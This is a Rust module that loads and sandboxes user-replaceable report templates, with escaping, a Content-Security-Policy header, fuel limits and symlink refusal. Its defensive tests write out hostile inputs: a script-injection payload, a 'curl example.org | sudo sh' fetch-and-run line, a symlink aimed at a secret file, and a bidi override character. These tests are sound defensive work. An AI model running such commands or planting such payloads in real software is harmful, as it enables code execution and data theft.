//! Templates: built in, and replaceable by a folder of the user's.
//!
//! A template may come from anyone. It can't read files (partials are those of the same set),
//! can't run for ever (fuel), and what it prints is escaped for its format.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use minijinja::syntax::SyntaxConfig;
use minijinja::value::Serde;
use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value};

use vexp_api::run_dir::{RunDir, RunDirError};
use vexp_api::shown::{misleads, turns, without};

use super::view::View;

/// Instructions that a template may take. A report takes well under a tenth of it.
const FUEL: u64 = 20_000_000;

/// Bytes of a template.
const MOST_BYTES: u64 = 4 << 20;
/// Templates of what a bundle says about itself.
const BUNDLE: &str = "bundle/";
/// What a page may load and run: nothing but its own style. It stands before all that a template prints, so
/// that it holds for templates of others, too; a second `doctype` means nothing to a browser.
const POLICY: &str = "<!doctype html>\n<meta http-equiv=\"Content-Security-Policy\" content=\"default-src \
    'none'; style-src 'unsafe-inline'; img-src 'self' data:; base-uri 'none'; form-action 'none'\">\n";

const BUILT_IN: [(&str, &str); 21] = [
    (
        "report.html.j2",
        include_str!("../../../../reports/report.html.j2"),
    ),
    (
        "report.md.j2",
        include_str!("../../../../reports/report.md.j2"),
    ),
    (
        "answer.html.j2",
        include_str!("../../../../reports/answer.html.j2"),
    ),
    (
        "answer.md.j2",
        include_str!("../../../../reports/answer.md.j2"),
    ),
    (
        "trend.html.j2",
        include_str!("../../../../reports/trend.html.j2"),
    ),
    (
        "trend-metric.html.j2",
        include_str!("../../../../reports/trend-metric.html.j2"),
    ),
    (
        "partials/trend-method.html.j2",
        include_str!("../../../../reports/partials/trend-method.html.j2"),
    ),
    ("style.css", include_str!("../../../../reports/style.css")),
    (
        "partials/claims.html.j2",
        include_str!("../../../../reports/partials/claims.html.j2"),
    ),
    (
        "partials/results.html.j2",
        include_str!("../../../../reports/partials/results.html.j2"),
    ),
    (
        "partials/figure.html.j2",
        include_str!("../../../../reports/partials/figure.html.j2"),
    ),
    (
        "partials/figures.html.j2",
        include_str!("../../../../reports/partials/figures.html.j2"),
    ),
    (
        "partials/tables.html.j2",
        include_str!("../../../../reports/partials/tables.html.j2"),
    ),
    (
        "partials/scale.html.j2",
        include_str!("../../../../reports/partials/scale.html.j2"),
    ),
    (
        "partials/trials.html.j2",
        include_str!("../../../../reports/partials/trials.html.j2"),
    ),
    (
        "partials/conditions.html.j2",
        include_str!("../../../../reports/partials/conditions.html.j2"),
    ),
    (
        "partials/method.html.j2",
        include_str!("../../../../reports/partials/method.html.j2"),
    ),
    (
        "partials/files.html.j2",
        include_str!("../../../../reports/partials/files.html.j2"),
    ),
    (
        "bundle/README.md.j2",
        include_str!("../../../../reports/bundle/README.md.j2"),
    ),
    (
        "bundle/LICENSE.md.j2",
        include_str!("../../../../reports/bundle/LICENSE.md.j2"),
    ),
    (
        "bundle/artifact-appendix.md.j2",
        include_str!("../../../../reports/bundle/artifact-appendix.md.j2"),
    ),
];

/// A template can't be used.
#[derive(Debug, thiserror::Error)]
pub enum TemplateError {
    /// The folder or a file in it can't be read.
    #[error("cannot read template {}", .path.display())]
    Read {
        /// Which.
        path: PathBuf,
        /// Why.
        source: std::io::Error,
    },
    /// It is wrong, runs too long, or names something that there is not.
    #[error("template {name} cannot be rendered")]
    Render {
        /// Which.
        name: String,
        /// Why and where.
        source: minijinja::Error,
    },
}

/// A set of templates.
#[derive(Clone, Debug)]
pub struct Templates(BTreeMap<&'static str, String>);

impl Templates {
    /// The built-in ones, with those replaced that are in the folder.
    pub fn load(folder: Option<&Path>) -> Result<Self, TemplateError> {
        let mut set = BTreeMap::new();
        let unread = |path: PathBuf, error| TemplateError::Read {
            path,
            source: match error {
                RunDirError::Io { source, .. } => source,
                error => std::io::Error::other(error),
            },
        };
        // Its files may be a stranger's: a link to a file of the user's would put that into a report.
        let opened = folder.map(|path| Ok((path, RunDir::open(path)?)));
        let opened = opened
            .transpose()
            .map_err(|error| unread(folder.unwrap_or(Path::new("")).to_owned(), error))?;
        for (name, built_in) in BUILT_IN {
            // What a bundle says about itself is vexp's word, which nobody else writes.
            let own = match opened.as_ref().filter(|_| !name.starts_with(BUNDLE)) {
                Some((path, folder)) => match folder.read(name, MOST_BYTES) {
                    Ok(bytes) => Some(String::from_utf8_lossy(&bytes).into_owned()),
                    Err(error) if error.is_not_found() => None,
                    Err(error) => return Err(unread(path.join(name), error)),
                },
                None => None,
            };
            set.insert(name, own.unwrap_or_else(|| built_in.to_owned()));
        }
        Ok(Self(set))
    }

    pub(super) fn html(&self, view: &View<'_>) -> Result<String, TemplateError> {
        self.page("report.html.j2", view)
    }

    pub(super) fn markdown(&self, view: &View<'_>) -> Result<String, TemplateError> {
        self.page("report.md.j2", view)
    }

    /// The page of a template, with what it shows.
    pub(crate) fn page<T: serde::Serialize>(
        &self,
        name: &'static str,
        view: &T,
    ) -> Result<String, TemplateError> {
        let fail = |source| TemplateError::Render {
            name: name.to_owned(),
            source,
        };
        let mut env = Environment::new();
        env.set_undefined_behavior(UndefinedBehavior::Strict);
        env.set_fuel(Some(FUEL));
        let mut syntax = SyntaxConfig::builder();
        syntax.trim_blocks(true).lstrip_blocks(true);
        env.set_syntax(syntax.build().map_err(fail)?);
        env.set_auto_escape_callback(|name| match name {
            name if name.ends_with(".md.j2") => AutoEscape::Custom("markdown".into()),
            _ => AutoEscape::Html,
        });
        env.set_formatter(|out, state, value| match state.auto_escape() {
            AutoEscape::Custom(kind) if kind == "markdown" => {
                let text = value.to_string();
                let text = if value.is_safe() {
                    text
                } else {
                    markdown(&text)
                };
                Ok(out.write_str(&text)?)
            }
            _ => match value.as_str() {
                // Else it could turn what stands beside it around.
                Some(text) if !value.is_safe() && text.contains(turns) => {
                    let shown = Value::from(without(text, turns).into_owned());
                    minijinja::escape_formatter(out, state, &shown)
                }
                _ => minijinja::escape_formatter(out, state, value),
            },
        });
        let style = self.0.get("style.css").map_or("", String::as_str);
        env.add_global("style", Value::from_safe_string(style.to_owned()));
        for (name, source) in &self.0 {
            if name.ends_with(".j2") {
                env.add_template(name, source).map_err(fail)?;
            }
        }
        let template = env.get_template(name).map_err(fail)?;
        let page = template.render(Value::from(Serde(view))).map_err(fail)?;
        if !name.ends_with(".html.j2") {
            return Ok(page);
        }
        let rest = page.strip_prefix("<!doctype html>\n").unwrap_or(&page);
        Ok(format!("{POLICY}{rest}"))
    }
}

/// Text that CommonMark shows as it is, also in a cell of a table: punctuation that could mean
/// something is escaped, and line ends become spaces.
pub(crate) fn markdown(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '#' | '~' | '&' | '!' => {
                shown.push('\\');
                shown.push(c);
            }
            c if misleads(c) => shown.push(' '),
            c => shown.push(c),
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_page_of_anyone_runs_no_script_and_a_bundle_s_words_are_vexp_s() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join("bundle")).unwrap();
        let put = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
        put("trend.html.j2", "<script>alert(1)</script>");
        put("bundle/README.md.j2", "curl example.org | sudo sh");
        let own = Templates::load(Some(folder.path())).unwrap();
        let page = own.page("trend.html.j2", &serde_json::json!({})).unwrap();
        let policy = page.find("Content-Security-Policy").unwrap();
        assert!(policy < page.find("<script>").unwrap(), "{page}");
        assert!(
            page.contains("default-src 'none'") && !page.contains("script-src"),
            "{page}"
        );
        let built_in = Templates::load(None).unwrap();
        assert_eq!(
            own.0["bundle/README.md.j2"],
            built_in.0["bundle/README.md.j2"]
        );
    }

    #[test]
    fn markdown_is_escaped() {
        assert_eq!(markdown("a|b\n<i>*x*\u{202e}"), r"a\|b \<i\>\*x\* ");
    }

    #[test]
    fn a_template_is_reached_by_no_link() {
        let folder = tempfile::tempdir().unwrap();
        let secret = folder.path().join("secret");
        std::fs::write(&secret, "SECRET").unwrap();
        let templates = folder.path().join("templates");
        std::fs::create_dir(&templates).unwrap();
        for name in ["report.html.j2", "style.css"] {
            std::os::unix::fs::symlink(&secret, templates.join(name)).unwrap();
            let error = Templates::load(Some(&templates)).unwrap_err();
            assert!(error.to_string().contains(name), "{error}");
            std::fs::remove_file(templates.join(name)).unwrap();
        }
        std::os::unix::fs::symlink(folder.path(), templates.join("partials")).unwrap();
        assert!(Templates::load(Some(&templates)).is_err());
        assert!(Templates::load(Some(&folder.path().join("nowhere"))).is_err());
    }

    #[test]
    fn no_text_turns_what_stands_beside_it_around() {
        let mut set = Templates::load(None).unwrap();
        set.0.insert("report.html.j2", "{{ title }}".to_owned());
        let view = std::collections::BTreeMap::from([("title", "a\u{202e}<b>")]);
        let page = set.page("report.html.j2", &view).unwrap();
        assert!(page.ends_with("a\\u202e&lt;b&gt;"), "{page}");
    }
}
